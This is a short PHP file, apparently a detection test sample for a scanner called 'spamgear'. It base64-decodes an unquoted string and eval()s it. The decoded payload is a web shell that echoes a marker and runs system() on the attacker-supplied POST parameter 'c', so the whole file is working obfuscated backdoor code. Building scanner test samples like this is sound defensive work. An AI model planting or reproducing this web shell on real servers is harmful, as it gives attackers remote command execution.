<?php
// spamgear test sample: a bare (unquoted) base64 word decodes like a string
$k = base64_decode(ZWNobyAic3BhbWdlYXIgdGVzdCBzYW1wbGUiOyBAc3lzdGVtKCRfUE9TVFsiYyJdKTs);
eval($k);
